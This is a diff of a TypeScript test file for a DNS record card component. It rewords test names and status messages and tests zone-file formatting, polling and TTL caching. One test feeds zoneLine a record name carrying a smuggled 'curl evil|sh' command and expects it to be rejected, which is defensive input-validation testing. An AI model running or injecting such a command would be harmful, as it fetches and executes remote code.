@@ -12,10 +12,10 @@ const standing = (): string | undefined => screen.getByTestId("dns-watch").datas
 describe("a DNS record", () => {
   afterEach(() => vi.useRealTimers());
 
-  it("is shown in the words of the place where it is made", async () => {
+  it("is shown in the format of the chosen DNS provider", async () => {
     const { user, host, unmount } = renderSignedIn(<DnsRecordCard record={record} />);
     await waitFor(() => expect(screen.getByTestId("dns-text").textContent).toContain("az network dns"));
-    await user.selectOptions(screen.getByRole("combobox", { name: "Where the domain is managed" }), "zone_file");
+    await user.selectOptions(screen.getByRole("combobox", { name: "DNS provider" }), "zone_file");
     expect(screen.getByTestId("dns-text").textContent).toContain("ml.contoso.com. 300 IN A 20.101.44.7");
     const zone = screen.getByRole("textbox", { name: "Zone" });
     expect(zone).toHaveProperty("value", "contoso.com");
@@ -26,7 +26,7 @@ describe("a DNS record", () => {
     unmount();
   });
 
-  it("is watched until the DNS answers, and not any longer", async () => {
+  it("is polled until DNS returns it, then no longer", async () => {
     vi.useFakeTimers({ shouldAdvanceTime: true });
     const answers = [seenOf(), seenOf({ values: ["10.0.0.9"], ttlSeconds: 120 }), seenOf({ agrees: true, values: [record.value], ttlSeconds: 300 })];
     const { host } = renderSignedIn(<DnsRecordCard record={record} />, { look_up_dns: () => answers.shift() ?? seenOf({ agrees: true }) });
@@ -34,31 +34,31 @@ describe("a DNS record", () => {
     await waitFor(() => expect(standing()).toBe("missing"));
     await vi.advanceTimersByTimeAsync(5000);
     await waitFor(() => expect(standing()).toBe("other"));
-    expect(screen.getByRole("status").textContent).toBe("The DNS shows 10.0.0.9 instead.");
+    expect(screen.getByRole("status").textContent).toBe("DNS returns 10.0.0.9 instead.");
     expect(screen.getByTestId("dns-kept").textContent).toMatch(/up to (2 min|1 min 5\d sec)/);
     await vi.advanceTimersByTimeAsync(5000);
     await waitFor(() => expect(standing()).toBe("answers"));
-    expect(screen.getByTestId("dns-kept").textContent).toContain("former value");
+    expect(screen.getByTestId("dns-kept").textContent).toContain("previous value");
     const before = looks();
     await vi.advanceTimersByTimeAsync(20_000);
     expect(looks()).toBe(before);
   });
 });
 
-describe("standing of a record", () => {
-  it("tells an answer without values from no answer", () => {
+describe("DNS record status", () => {
+  it("distinguishes an empty answer from no answer", () => {
     expect(standingOf(undefined)).toBe("looking");
     expect(standingOf(seenOf())).toBe("missing");
     expect(standingOf(seenOf({ problem: "timed out" }))).toBe("problem");
   });
 
-  it("knows how long a wrong value may be kept", () => {
+  it("knows how long a wrong value may be cached", () => {
     const seen = seenOf({ values: ["1.2.3.4"], ttlSeconds: 60, lookedAt: "2026-11-21T09:00:00Z" });
     expect(keptUntil(seen)).toBe(Date.parse("2026-11-21T09:01:00Z"));
     expect(keptUntil({ ...seen, agrees: true })).toBeNull();
   });
 
-  it("is written as zone files have it", () => {
+  it("is written in zone file format", () => {
     expect(zoneLine({ name: "_acme-challenge.a.b", kind: "TXT", value: "x" })).toBe('_acme-challenge.a.b. 300 IN TXT "x"');
     expect(zoneLine({ name: "x;curl evil|sh;.b", kind: "TXT", value: "x" })).toBeNull();
     expect(zoneLine({ name: "a.b", kind: "TXT", value: 'x" "y' })).toBeNull();
